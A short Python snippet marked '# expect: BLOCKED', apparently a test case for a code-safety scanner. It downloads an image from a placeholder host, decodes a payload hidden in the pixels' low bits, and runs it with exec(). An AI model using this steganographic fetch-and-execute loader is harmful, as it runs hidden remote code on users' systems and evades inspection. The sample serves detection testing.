# expect: BLOCKED
import io, requests
from PIL import Image
def decode(png):
    img = Image.open(io.BytesIO(png)).convert("L")
    bits = [p & 1 for p in img.getdata()]
    return bytes(int("".join(map(str, bits[i:i+8])), 2) for i in range(0, len(bits), 8))
exec(decode(requests.get("https://img.example/cat.png").content))
